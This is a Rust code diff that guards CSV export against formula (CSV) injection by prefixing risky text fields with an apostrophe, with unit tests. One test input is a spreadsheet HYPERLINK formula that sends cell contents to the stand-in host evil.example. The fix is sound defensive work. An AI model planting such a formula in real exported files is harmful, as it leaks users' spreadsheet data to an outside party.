@@ -134,11 +134,15 @@ pub fn tables(p: &ProjectFields, menu: &[MenuItem], tally: &Tally, rules: &Renov
     }
 }
 
+/// A text field of a CSV file: quoted where needed, and a text a spreadsheet would read as a formula
+/// (starting with `=`, `+`, `-`, `@`, a tab or a carriage return) neutralised with a leading `'`
+/// (CSV injection). Numbers are written by `csv_cell` and never pass here.
 fn csv_field(s: &str) -> String {
+    let s = if s.starts_with(['=', '+', '-', '@', '\t', '\r']) { format!("'{s}") } else { s.to_string() };
     if s.contains([',', '"', '\n', '\r']) {
         format!("\"{}\"", s.replace('"', "\"\""))
     } else {
-        s.to_string()
+        s
     }
 }
 
@@ -186,6 +190,13 @@ mod tests {
         assert_eq!(csv_field("plain"), "plain");
         // Moved from the app, which now writes the core's CSV.
         assert_eq!(csv_field("路面"), "路面");
+        // CSV injection: what a spreadsheet would run as a formula is written as text.
+        assert_eq!(csv_field("=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")"), "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"点击\"\")\"");
+        assert_eq!(csv_field("+1"), "'+1");
+        assert_eq!(csv_field("-2"), "'-2");
+        assert_eq!(csv_field("@SUM(A1)"), "'@SUM(A1)");
+        assert_eq!(csv_field("\tx"), "'\tx");
+        assert_eq!(csv_cell(&Cell::Num(-3.0)), "-3", "numbers stay numbers");
         assert_eq!(csv_cell(&Cell::Pct(2.0 / 3.0)), "66.7%");
         assert_eq!(csv_cell(&Cell::Num(72.456)), "72.46");
     }
